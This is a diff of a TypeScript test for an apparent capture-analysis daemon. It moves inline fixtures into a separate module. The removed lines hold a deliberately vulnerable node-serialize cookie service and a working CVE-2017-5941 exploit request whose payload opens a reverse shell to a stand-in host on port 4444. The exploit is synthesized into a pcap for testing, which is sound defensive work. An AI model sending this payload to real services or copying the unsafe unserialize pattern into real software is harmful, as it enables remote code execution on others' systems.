@@ -15,62 +15,13 @@
  */
 import assert from 'node:assert/strict';
 import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
-import { buildPcap, synthesizeTcpExchange } from '../../src/capture/index.ts';
-import { LinkType } from '../../src/core/index.ts';
 import { analyzeCaptures, createNetnsFarm, type CrashtestEvent, type NetnsFarm } from '../../src/daemon/index.ts';
-import { makeLowerDir, netnsProfile, netnsSkipReason, SERVICE_PORT } from './netns-fixture.ts';
-
-const ATTACKER = { ip: '203.0.113.66', port: 51_515, mac: '02:00:cb:00:71:42' };
-const SERVER = { ip: '192.0.2.80', port: SERVICE_PORT, mac: '02:00:c0:00:02:50' };
-const CALLBACK = { address: '203.0.113.50', port: 4_444 };
-
-/** The vulnerable application of the write-up, as it was published (cookie `profile`, base64 JSON). */
-const VULNERABLE_SERVICE = String.raw`
-const http = require('node:http');
-const serialize = require('node-serialize');
-http.createServer((request, response) => {
-  const cookie = (request.headers.cookie || '').split(';').map((part) => part.trim()).find((part) => part.startsWith('profile='));
-  if (cookie) {
-    const profile = serialize.unserialize(Buffer.from(decodeURIComponent(cookie.slice('profile='.length)), 'base64').toString());
-    response.end('Hello ' + profile.username);
-  } else {
-    response.setHeader('Set-Cookie', 'profile=eyJ1c2VybmFtZSI6Imd1ZXN0In0%3D; Max-Age=900000; HttpOnly');
-    response.end('Hello guest');
-  }
-}).listen(${SERVICE_PORT});
-`;
-
-/** The nodejsshell.py reverse shell inside an immediately invoked serialized function. */
-function exploitRequest(): string {
-  const shell = `var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect(${CALLBACK.port},'${CALLBACK.address}',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});`;
-  const cookie = Buffer.from(JSON.stringify({ username: `_$$ND_FUNC$$_function (){${shell}}()` })).toString('base64');
-  return `GET / HTTP/1.1\r\nHost: ${SERVER.ip}:${SERVER.port}\r\nUser-Agent: Mozilla/5.0\r\nCookie: profile=${encodeURIComponent(cookie)}\r\nConnection: close\r\n\r\n`;
-}
-
-function captureFile(directory: string): string {
-  const frames = synthesizeTcpExchange({
-    client: ATTACKER,
-    server: SERVER,
-    turns: [
-      { direction: 'to_server', data: Buffer.from(exploitRequest(), 'latin1'), time: { seconds: 1_700_000_000, nanoseconds: 0 } },
-      { direction: 'to_client', data: Buffer.from('HTTP/1.1 200 OK\r\nContent-Length: 15\r\nConnection: close\r\n\r\nHello undefined', 'latin1'), time: { seconds: 1_700_000_000, nanoseconds: 4_000_000 } },
-    ],
-  });
-  const file = join(directory, 'node-serialize-rce.pcap');
-  writeFileSync(file, buildPcap(LinkType.ETHERNET, frames));
-  return file;
-}
-
-/** npm install of the vulnerable package into the lower directory; the reason when it cannot. */
-function installVulnerablePackage(prefix: string): string | null {
-  const installed = spawnSync('npm', ['install', '--no-save', '--no-package-lock', '--no-audit', '--no-fund', '--prefix', prefix, 'node-serialize@0.0.4'], { encoding: 'utf8', timeout: 120_000 });
-  if (installed.status === 0) return null;
-  return `npm install node-serialize@0.0.4 failed (${installed.status}): ${(installed.stderr || installed.stdout || '').trim().split('\n').at(-1)}`;
-}
+import { makeLowerDir, netnsSkipReason } from './netns-fixture.ts';
+import { CALLBACK, captureFile, installVulnerablePackage, nodeSerializeProfile, VULNERABLE_SERVICE, VULNERABLE_SERVICE_COMMAND } from './node-serialize-fixture.ts';
 
 function namespacesOf(prefix: string): string[] {
   return spawnSync('ip', ['netns', 'list'], { encoding: 'utf8' }).stdout.split('\n').filter((line) => line.startsWith(prefix));
@@ -91,19 +42,7 @@ if (skip !== null) {
     let hostCapture: ChildProcess | null = null;
     let farm: NetnsFarm | null = null;
     const events: CrashtestEvent[] = [];
-    const profile = netnsProfile('netns-node-serialize-0.0.4', {
-      applications: [{ name: 'node-serialize', version: '0.0.4' }],
-      vulnerabilities: [
-        {
-          id: 'CVE-2017-5941',
-          cves: ['CVE-2017-5941'],
-          title: 'node-serialize unserialize() runs immediately invoked function expressions',
-          component: 'node-serialize',
-          access: 'anonymous',
-          reachedOn: [{ proto: 'tcp', port: SERVICE_PORT, service: 'http' }],
-        },
-      ],
-    });
+    const profile = nodeSerializeProfile();
 
     before(async () => {
       installFailure = installVulnerablePackage(join(lower.dir, 'srv'));
@@ -120,7 +59,7 @@ if (skip !== null) {
       });
       farm = createNetnsFarm({
         profiles: [profile],
-        driver: { dummies: { [profile.id]: { lowerDir: lower.dir, services: ['cd /srv && exec /usr/bin/node service.cjs'] } }, maxDwellMs: 1_500, warmSpare: false },
+        driver: { dummies: { [profile.id]: { lowerDir: lower.dir, services: [VULNERABLE_SERVICE_COMMAND] } }, maxDwellMs: 1_500, warmSpare: false },
       });
     });
 
